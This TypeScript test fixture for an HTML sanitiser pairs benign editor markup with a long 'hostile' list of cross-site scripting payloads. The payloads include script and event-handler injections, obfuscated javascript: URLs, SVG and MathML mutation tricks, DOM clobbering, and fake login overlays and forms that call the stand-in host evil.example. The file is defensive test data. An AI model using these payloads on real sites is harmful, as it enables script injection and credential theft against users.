type Cases = Readonly<Record<string, string>>;

const imagePath = '/pictures/0123456789abcdef0123456789abcdef';

/** Markup that the editor creates. Sanitising leaves every byte unchanged. */
export const accepted: Cases = {
  'a paragraph': '<p>The Fed holds rates.</p>',
  'an empty paragraph': '<p>Before</p><p></p><p>after</p>',
  'hard line breaks': '<p>One<br>two<br><br>four</p>',
  headings: '<h2>Rates</h2><h3>In March</h3><h4>At the long end</h4><p>They stay.</p>',
  'a heading with marks': '<h2>What <em>it</em> means</h2>',
  'each mark': '<p><strong>b</strong> <em>i</em> <u>u</u> <s>s</s> <code>c</code></p>',
  'subscript, superscript and highlight':
    '<p>CO<sub>2</sub> at 5 m<sup>2</sup>, <mark>as <sup>agreed</sup></mark></p>',
  'nested marks': '<p><strong>a<em>b<u>c<s>d</s></u></em></strong><em>e</em></p>',
  'a mark on a space only': '<p>a<strong> </strong>b</p><p><em> </em></p>',
  'repeated and non-breaking spaces': '<p>  two  and&nbsp;one&nbsp;&nbsp;</p><p>   </p>',
  'a quotation': '<blockquote><p>We are not in a hurry.</p><p>At all.</p></blockquote>',
  'nested quotations': '<blockquote><p>a</p><blockquote><p>b</p></blockquote></blockquote>',
  'a heading and a list in a quotation': '<blockquote><h3>a</h3><ul><li><p>b</p></li></ul></blockquote>',
  'a rule': '<p>a</p><hr><p>b</p><hr>',
  'a list': '<ul><li><p>Treasury bills</p></li><li><p>Banks</p></li></ul>',
  'a numbered list': '<ol><li><p>one</p></li><li><p>two</p></li></ol>',
  'a list numbered from seven': '<ol start="7"><li><p>seven</p></li></ol>',
  'a list numbered from zero': '<ol start="0"><li><p>zero</p></li></ol>',
  'lists with letters and Roman numbers':
    '<ol start="3" type="a"><li><p>c</p><ol type="I"><li><p>I</p></li></ol></li></ol>',
  'nested lists':
    '<ul><li><p>a</p><ol><li><p>b</p><ul><li><p>c</p></li></ul></li><li><p>d</p></li></ol></li><li><p>e</p></li></ul>',
  'a list item with several blocks':
    '<ul><li><p>a</p><p>b</p><pre><code>c</code></pre><blockquote><p>d</p></blockquote></li></ul>',
  'an empty list item': '<ul><li><p></p></li></ul>',
  code: '<pre><code>range = [3.50, 3.75]\n\tif (a &lt; b &amp;&amp; c &gt; d) {\n    "x";\n}\n</code></pre>',
  'code with leading empty lines': '<pre><code>\n\n  x</code></pre>',
  'empty code': '<pre><code></code></pre>',
  'code about markup': '<pre><code>&lt;script&gt;alert("&amp;amp;")&lt;/script&gt;</code></pre>',
  'text that looks like markup':
    '<p>1 &lt; 2 &gt; 0, &lt;b&gt;, &amp;lt;, &amp;nbsp;, --&gt;, ]]&gt; and "\'`=</p>',
  'an external link':
    '<p>See <a href="https://www.sec.gov/edgar?a=b&amp;c=%20#d" target="_blank" rel="noopener noreferrer">it</a>.</p>',
  'an http link': '<p><a href="http://example.com" target="_blank" rel="noopener noreferrer">it</a></p>',
  'a link in another script':
    '<p><a href="https://пример.рф/путь(а)" target="_blank" rel="noopener noreferrer">пример</a></p>',
  'a mailto link': '<p><a href="mailto:desk@example.com?subject=A%20word">write</a></p>',
  'a tel link': '<p><a href="tel:+1-555-0100">call</a></p>',
  'internal links': '<p><a href="/">home</a> <a href="/stocks/BRK.B?range=1y#news">stock</a></p>',
  'a link with marks': '<p>a <a href="/help"><strong>b<em>c</em></strong><code>d</code></a> e</p>',
  'a link with a line break': '<p><a href="/help">a<br>b</a></p>',
  'an image': `<p>a</p><img src="${imagePath}/large.webp" alt="A chart" loading="lazy" decoding="async"><p>b</p>`,
  'an image with its size': `<img src="${imagePath}/small.webp" alt="" width="640" height="480" loading="lazy" decoding="async">`,
  'an image with a long description': `<img src="${imagePath}/medium.webp" alt="“A” &quot;b&quot; &amp; 'c' &lt;d&gt;&nbsp;é 图" loading="lazy" decoding="async">`,
  'an image in a list': `<ul><li><p>a</p><img src="${imagePath}/small.webp" alt="b" loading="lazy" decoding="async"></li></ul>`,
  'a table':
    '<table><tbody><tr><th colspan="1" rowspan="1"><p>Symbol</p></th><th colspan="1" rowspan="1"><p>Price</p></th></tr><tr><td colspan="1" rowspan="1"><p>JPM</p></td><td colspan="1" rowspan="1"><p></p></td></tr></tbody></table>',
  'a table with merged cells':
    '<table><tbody><tr><th colspan="2"><p>a</p></th><td rowspan="3"><p>b</p></td></tr><tr><td colspan="50" rowspan="200"><p>c</p></td></tr></tbody></table>',
  'a table with blocks in its cells': `<table><tbody><tr><td><ul><li><p>a</p></li></ul><h3>b</h3></td><td><img src="${imagePath}/small.webp" alt="" loading="lazy" decoding="async"><p>c</p></td></tr></tbody></table>`,
  'nested tables':
    '<table><tbody><tr><td><table><tbody><tr><td><p>a</p></td></tr></tbody></table></td></tr></tbody></table>',
  'a table in a quotation':
    '<blockquote><table><tbody><tr><td><p>a</p></td></tr></tbody></table></blockquote>',
  'Arabic and Hebrew': '<p>ارتفاع الأسهم \u200f(٢٠٢٦)\u200e</p><h2>שוק המניות</h2><p>\u2067a\u2069</p>',
  'text from right to left':
    '<h2 dir="rtl">ارتفاع</h2><p dir="rtl">سعر <strong>JPM</strong></p><ul dir="rtl"><li dir="rtl"><p dir="auto">א</p></li></ul><table dir="rtl"><tbody><tr><td dir="ltr"><p>a</p></td></tr></tbody></table><pre dir="ltr"><code>b</code></pre>',
  'Chinese, Hindi and Thai': '<p>美联储维持利率不变</p><p>शेयर बाज़ार</p><p>ตลาดหุ้น</p>',
  'emoji and marks': '<p>🚀 👩‍👩‍👧 🇨🇭 ❤️ 1️⃣ e\u0301 \u00ad\u200b\ufeff</p>',
  'supplementary planes': '<p>𝼀 \u{10fffd} \ue000</p>',
  'text without a paragraph': 'Just <strong>words</strong>',
  'a list without paragraphs': '<ul><li>a<ul><li>b</li></ul></li></ul><p>c</p>\n<p>d</p>\n',
};

/** What must lose its sting: run by a browser, it would set `window.hacked` or ask evil.example for something. */
export const hostile: Cases = {
  'a script': '<p>a</p><script>window.hacked = true</script>',
  'an external script': '<script src="https://evil.example/a.js"></script>',
  'a script in capitals': '<SCRIPT SRC=//evil.example/a.js></SCRIPT>',
  'a script with junk in its tags': '<script/x="y"/src="https://evil.example/a.js"></script foo>',
  'a script within a script': '<scr<script>ipt>window.hacked=true</scr</script>ipt>',
  'a script with a NUL': '<scr\0ipt>window.hacked=true</scr\0ipt><script\0>window.hacked=true</script>',
  'a script never closed': '<script>window.hacked=true',
  'a script tag never ended': '<p>a</p><script src="https://evil.example/a.js"',
  'a script closed with a space': '<script>window.hacked=true</script ><p>b</p>',
  'a script named in entities':
    '&lt;script&gt;window.hacked=true&lt;/script&gt;&#60;script&#62;window.hacked=true&#60;/script&#62;',
  'a script twice in entities': '&amp;lt;img src=x onerror=window.hacked=true&amp;gt;',
  'a script after a broken tag': '<<script>window.hacked=true//<</script>',
  'an SVG script': '<svg><script>window.hacked=true</script></svg>',
  'an SVG script by reference': '<svg><script href="https://evil.example/a.js" /></svg>',
  'a broken image': '<img src=x onerror=window.hacked=true>',
  'a broken image with slashes': '<img/src=x/onerror=window.hacked=true>',
  'a broken image in capitals': '<IMG SRC=x OnErRoR="window.hacked=true">',
  'a broken internal image':
    '<img src="/pictures/0123456789abcdef0123456789abcdef/small.webp" onerror="window.hacked=true">',
  'an image by its old name': '<image src=x onerror=window.hacked=true>',
  'a handler named in entities': '<img src=x onerror="&#119;indow.hacked&#x3d;true">',
  'a handler after a form feed': '<img src=x\fonerror=window.hacked=true>',
  'a handler in backticks': '<img src=`x`onerror=window.hacked=true>',
  'a handler after an unfinished quote': `<img src="x' onerror=window.hacked=true>"><img src='x" onerror=window.hacked=true>`,
  'a handler behind a quote in an attribute': '<img alt="&quot; onerror=&quot;window.hacked=true" src=x>',
  'a handler behind a bracket in an attribute': '<img alt="><img src=x onerror=window.hacked=true>" src=y>',
  'a handler on an unfinished tag': '<p>a</p><img src=x onerror=window.hacked=true //',
  'a handler with a slash for a space':
    '<p/onmouseover=window.hacked=true/style=position:fixed;inset:0>a</p>',
  'a handler on the start of an animation':
    '<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart="window.hacked=true">a</p>',
  'a handler on focus': '<p tabindex=0 autofocus onfocus=window.hacked=true>a</p>',
  'a javascript URL': '<a href="javascript:window.hacked=true">a</a>',
  'a javascript URL in mixed case': '<a href="JaVaScRiPt:window.hacked=true">a</a>',
  'a javascript URL in entities': '<a href="&#106;&#x61;vascript&colon;window.hacked=true">a</a>',
  'a javascript URL without semicolons': '<a href="&#0000106&#0000097vascript:window.hacked=true">a</a>',
  'a javascript URL with a tab':
    '<a href="java\tscript:window.hacked=true">a</a><a href="java&Tab;script:window.hacked=true">b</a>',
  'a javascript URL with line ends':
    '<a href="java\nscript&NewLine;:window.hacked=true">a</a><a href="j\r\navascript:window.hacked=true">b</a>',
  'a javascript URL after control characters':
    '<a href="\x01\x02 javascript:window.hacked=true">a</a><a href="&#1;javascript:window.hacked=true">b</a>',
  'a javascript URL with a NUL':
    '<a href="java\0script:window.hacked=true">a</a><a href="java&#0;script:window.hacked=true">b</a>',
  'a javascript URL after spaces': '<a href=" &#32;&#9;&#13;&#12; javascript:window.hacked=true">a</a>',
  'a javascript URL after a wide space':
    '<a href="\u00a0javascript:window.hacked=true">a</a><a href="\u2003\ufeffjavascript:window.hacked=true">b</a>',
  'a javascript URL in wide letters':
    '<a href="ｊavascript:window.hacked=true">a</a><a href="javascript：window.hacked=true">b</a>',
  'a javascript URL with a soft hyphen': '<a href="java\u00adscript:window.hacked=true">a</a>',
  'a javascript URL in a comment': '<a href="java<!-- -->script:window.hacked=true">a</a>',
  'a javascript URL unquoted': '<a href=javascript:window.hacked=true>a</a>',
  'a javascript URL in two attributes':
    '<a href="/x" href="javascript:window.hacked=true">a</a><a href="javascript:window.hacked=true" href="/x">b</a>',
  'a javascript URL in XLink':
    '<svg><a xlink:href="javascript:window.hacked=true"><text y=20>a</text></a></svg>',
  'a javascript URL in MathML': '<math href="javascript:window.hacked=true"><mtext>a</mtext></math>',
  'a javascript URL for an image':
    '<img src="javascript:window.hacked=true"><img lowsrc="javascript:window.hacked=true">',
  'a vbscript URL': '<a href="vbscript:window.hacked=true">a</a>',
  'a data URL': '<a href="data:text/html,<script>opener.hacked=true</script>">a</a>',
  'a data URL in base 64':
    '<a href="data:text/html;base64,PHNjcmlwdD5vcGVuZXIuaGFja2VkPXRydWU8L3NjcmlwdD4=">a</a>',
  'a data image': `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='window.hacked=true'/>">`,
  'blob and file URLs':
    '<a href="blob:https://evil.example/1">a</a><a href="file:///etc/passwd">b</a><a href="filesystem:https://evil.example/x">c</a>',
  'a scheme-relative link':
    '<a href="//evil.example/">a</a><a href="/\\evil.example/">b</a><a href="\\\\evil.example/">c</a>',
  'a scheme-relative link behind a tab':
    '<a href="/\t/evil.example/">a</a><a href="/&#10;/evil.example/">b</a><a href="&#9;//evil.example">c</a>',
  'a scheme-relative link behind a NUL':
    '<a href="/\0/evil.example/">a</a><a href="/\x7f/evil.example/">b</a><a href="/\x85/evil.example/">c</a>',
  'a scheme-relative link behind a comment': '<a href="/<!-- -->/evil.example/">a</a>',
  'an external image': '<img src="https://evil.example/pixel.png"><img src="//evil.example/pixel.png">',
  'an external image with our path':
    '<img src="https://evil.example/pictures/0123456789abcdef0123456789abcdef/small.webp">',
  'an external image after our path':
    '<img src="/pictures/0123456789abcdef0123456789abcdef/small.webp\n@evil.example/x"><img src="/pictures/../../x">',
  'an external image in srcset':
    '<img src="/pictures/0123456789abcdef0123456789abcdef/small.webp" srcset="https://evil.example/a.png 2x">',
  'an external image in source':
    '<picture><source srcset="https://evil.example/a.png"><img src="https://evil.example/b.png"></picture>',
  'an external image as a table background':
    '<table background="https://evil.example/a.png"><tr><td background="https://evil.example/b.png">a</td></tr></table>',
  'an external image as a body background':
    '<body background="https://evil.example/a.png" onload="window.hacked=true">a</body>',
  'an image in an SVG':
    '<svg><image href="https://evil.example/a.png" onload=window.hacked=true></svg><svg><feImage href="https://evil.example/b.png"/></svg>',
  'an external use in an SVG': '<svg><use href="https://evil.example/a.svg#x"></use></svg>',
  'a set in an SVG':
    '<svg><a><set attributeName=href to=javascript:window.hacked=true></set><text y=20>a</text></a></svg>',
  'an animation in an SVG':
    '<svg><animate onbegin=window.hacked=true attributeName=x dur=1s></svg><svg><a><animate attributeName=href values=javascript:window.hacked=true /></a></svg>',
  'an SVG that loads': '<svg onload=window.hacked=true><svg/onload=window.hacked=true>',
  'HTML inside an SVG': '<svg><foreignObject><img src=x onerror=window.hacked=true></foreignObject></svg>',
  'an SVG style': '<svg></p><style><a id="</style><img src=x onerror=window.hacked=true>">',
  'an SVG title': '<svg><title><img src=x onerror=window.hacked=true></title></svg>',
  'an SVG description':
    '<svg><desc><noscript><p title="</noscript><img src=x onerror=window.hacked=true>"></desc></svg>',
  'a MathML style':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=window.hacked=true&gt;">',
  'a MathML annotation':
    '<math><annotation-xml encoding="text/html"><img src=x onerror=window.hacked=true></annotation-xml></math>',
  'forms that mutate in MathML':
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.hacked=true>',
  'CDATA in an SVG': '<svg><![CDATA[><img src=x onerror=window.hacked=true>]]></svg>',
  CDATA:
    '<![CDATA[<img src=x onerror=window.hacked=true>]]><![CDATA[>]]><img src=x onerror=window.hacked=true>',
  'a comment that ends at once': '<!--><img src=x onerror=window.hacked=true>-->',
  'a comment that ends almost at once': '<!---><img src=x onerror=window.hacked=true>-->',
  'a comment that ends with a bang': '<!-- --!><img src=x onerror=window.hacked=true>-->',
  'a comment never closed': '<!-- <img src=x onerror=window.hacked=true>',
  'a comment in a comment': '<!--<!----><img src=x onerror=window.hacked=true>--!>-->',
  'a bogus comment':
    '<! foo="><script>window.hacked=true</script>"><!x><img src=x onerror=window.hacked=true>',
  'a bogus closing tag':
    '</ foo="><img src=x onerror=window.hacked=true>"></><img src=x onerror=window.hacked=true>',
  'a processing instruction':
    '<?xml version="1.0"?><?x ><img src=x onerror=window.hacked=true>?><?php echo "<script>window.hacked=true</script>" ?>',
  'a document type': '<!DOCTYPE html [<!ENTITY x "<script>window.hacked=true</script>">]>&x;',
  'a conditional comment': '<!--[if gte IE 4]><script>window.hacked=true</script><![endif]-->',
  'a revealed conditional comment': '<![if !IE]><img src="https://evil.example/a.png"><![endif]>',
  'markup from Word': `<!--[if gte mso 9]><xml><o:p/></xml><![endif]--><p class=MsoNormal style='mso-fareast:url("https://evil.example/a")'><o:p><img src="file:///C:/a.png" v:shapes="_x0000" onerror="window.hacked=true">a</o:p></p>`,
  noscript: '<noscript><p title="</noscript><img src=x onerror=window.hacked=true>"></noscript>',
  'noscript closed by its parent': '<p><noscript></p><img src=x onerror=window.hacked=true></noscript>',
  'a template': '<template><img src=x onerror=window.hacked=true></template>',
  'a shadow tree':
    '<p><template shadowrootmode=open><script>window.hacked=true</script><img src=x onerror=window.hacked=true></template></p>',
  'a style that closes itself': '<style><img src="</style><img src=x onerror=window.hacked=true>">',
  'a title': '<title><p title="</title><img src=x onerror=window.hacked=true>"></title>',
  'a textarea': '<textarea><p title="</textarea><img src=x onerror=window.hacked=true>"></textarea>',
  'a textarea closed with a slash': '<textarea></textarea/><img src=x onerror=window.hacked=true></textarea>',
  'an xmp': '<xmp><p title="</xmp><img src=x onerror=window.hacked=true>"></xmp>',
  'a noembed and a noframes':
    '<noembed><p title="</noembed><img src=x onerror=window.hacked=true>"></noembed><noframes><p title="</noframes><img src=x onerror=window.hacked=true>">',
  'plain text':
    '<p>a</p><plaintext><img src=x onerror=window.hacked=true></plaintext><script>window.hacked=true</script>',
  'a select element':
    '<select><option><style></option></select><img src=x onerror=window.hacked=true></style>',
  'foster parenting in a table':
    '<table><img src=x onerror=window.hacked=true><tr><script>window.hacked=true</script><td>a</table>',
  'a style sheet':
    '<style>@import "https://evil.example/a.css"; body { background: url(https://evil.example/a.png) }</style>',
  'a linked style sheet':
    '<link rel=stylesheet href="https://evil.example/a.css"><link rel=preload as=image href="https://evil.example/a.png">',
  'a style attribute that loads': `<p style="background:url(https://evil.example/a.png)">a</p><p style="list-style:url('https://evil.example/b')">b</p>`,
  'a style attribute in escapes':
    '<p style="backgr\\6f und:ur\\6c(https://evil.example/a.png)">a</p><p style="width:expression(window.hacked=true)">b</p>',
  'a style attribute that binds':
    '<p style="-moz-binding:url(https://evil.example/a.xml#x);behavior:url(https://evil.example/a.htc)">a</p>',
  'an overlay by style':
    '<a href="https://evil.example/login" style="position:fixed;inset:0;z-index:9999;background:url(https://evil.example/a.png)">Sign in</a>',
  'an overlay by our classes':
    '<a href="https://evil.example/login" class="fixed inset-0 z-50 bg-paper prose" onclick="window.hacked=true">Sign in</a>',
  'a base URL': '<base href="https://evil.example/"><a href="login">a</a><img src="a.png">',
  'a meta refresh':
    '<meta http-equiv="refresh" content="0;url=https://evil.example/"><meta http-equiv=refresh content="0;javascript:window.hacked=true">',
  'a meta Content-Security-Policy':
    '<meta http-equiv="Content-Security-Policy" content="default-src *; report-uri https://evil.example/r"><meta name=referrer content=unsafe-url>',
  'a frame':
    '<iframe src="https://evil.example/"></iframe><iframe src="javascript:parent.hacked=true"></iframe>',
  'a frame with srcdoc':
    '<iframe srcdoc="<script>parent.hacked=true</script>"></iframe><iframe srcdoc="&lt;img src=x onerror=parent.hacked=true&gt;"></iframe>',
  'a frame closed in an attribute':
    '<iframe><p title="</iframe><img src=x onerror=window.hacked=true>"></iframe>',
  'a frameset': '<frameset onload=window.hacked=true><frame src="https://evil.example/"></frameset>',
  'an object':
    '<object data="https://evil.example/a.swf"><img src=x onerror=window.hacked=true></object><object data="javascript:window.hacked=true"></object>',
  'an embedded page':
    '<embed src="https://evil.example/a.html"><embed src="javascript:window.hacked=true" type="text/html">',
  'an applet':
    '<applet code="Evil" codebase="https://evil.example/" archive="https://evil.example/a.jar">a</applet>',
  'a portal and a fenced frame':
    '<portal src="https://evil.example/"></portal><fencedframe src="https://evil.example/"></fencedframe>',
  'a form':
    '<form action="https://evil.example/login"><input name=password type=password autofocus onfocus=window.hacked=true><button>Go</button></form>',
  'other form targets':
    '<form id=f></form><button form=f formaction="javascript:window.hacked=true">a</button><input type=image src="https://evil.example/a.png" formaction="https://evil.example/">',
  'obsolete form elements':
    '<isindex action="javascript:window.hacked=true" type=image src="https://evil.example/a.png"><keygen autofocus onfocus=window.hacked=true>',
  'an audio element':
    '<audio src="https://evil.example/a.mp3" autoplay onplay=window.hacked=true></audio><audio><source src=x onerror=window.hacked=true></audio>',
  'a video element':
    '<video poster="https://evil.example/a.png" autoplay src="https://evil.example/a.mp4" onloadstart=window.hacked=true><track src="https://evil.example/a.vtt" default></video>',
  'a background sound':
    '<bgsound src="https://evil.example/a.mid"><bgsound src="javascript:window.hacked=true">',
  'a marquee': '<marquee onstart=window.hacked=true loop=1>a</marquee>',
  'open details': '<details open ontoggle=window.hacked=true><summary>a</summary>b</details>',
  'an open dialog':
    '<dialog open onclose=window.hacked=true style="position:fixed;inset:0"><form method=dialog><img src="https://evil.example/a.png"></form></dialog>',
  'a popover':
    '<p popover id=x onbeforetoggle=window.hacked=true>a</p><button popovertarget=x autofocus>b</button>',
  'a hidden input':
    '<input type=hidden popover id=y onbeforetoggle=window.hacked=true><button popovertarget=y>a</button>',
  'editable content':
    '<p contenteditable tabindex=1 autofocus onfocus=window.hacked=true oninput=window.hacked=true>a</p>',
  'an access key': '<a href="/x" accesskey=x onclick=window.hacked=true tabindex=1>a</a>',
  'a link with a ping':
    '<a href="https://www.sec.gov" ping="https://evil.example/ping" onclick="window.hacked=true">a</a>',
  'a link that downloads':
    '<a href="https://evil.example/a.exe" download="statement.pdf" onclick="window.hacked=true">a</a>',
  'a link with access to its opener':
    '<a href="https://evil.example/" target="_blank" rel="opener">a</a><a href="https://evil.example/" target="holdwise">b</a>',
  'a map of links':
    '<img src="/pictures/0123456789abcdef0123456789abcdef/small.webp" usemap="#m"><map name=m><area shape=default href="javascript:window.hacked=true"></map>',
  'names that clobber the DOM':
    '<a id=hacked name=hacked href="/x"></a><form name=document id=cookie onsubmit=window.hacked=true><input name=getElementById></form>',
  'paired names that clobber the DOM':
    '<a id=config></a><a id=config name=url href="https://evil.example/a.js">a</a><img name=currentScript src="https://evil.example/a.png">',
  'a custom element':
    '<x-evil onclick=window.hacked=true is="script" src="https://evil.example/a.js">a</x-evil><p is="x-evil" onclick=window.hacked=true>b</p>',
  'a custom namespace':
    '<x:script xmlns:x="http://www.w3.org/1999/xhtml" src="https://evil.example/a.js">window.hacked=true</x:script>',
  'data for a library': `<p data-on-click="window.hacked=true" x-init="window.hacked=true" ng-app>{{constructor.constructor('window.hacked=true')()}}</p>`,
  'prototype names':
    '<p __proto__="x" constructor onclick=window.hacked=true>a</p><constructor onclick=window.hacked=true>b</constructor><__proto__>c</__proto__>',
  'lone surrogates':
    '<p \ud800onclick=window.hacked=true title="\udfff">\ud800<img src=x onerror=window.hacked=true>\udc00</p>',
  'an invalid direction':
    '<p dir="rtl&quot; onmouseover=&quot;window.hacked=true">a</p><p dir=x onclick=window.hacked=true>b</p>',
  'a direction override':
    '<a href="https://www.sec.gov" title="\u202e" onmouseover=window.hacked=true>\u202eelpmaxe.live//:sptth</a>',
};
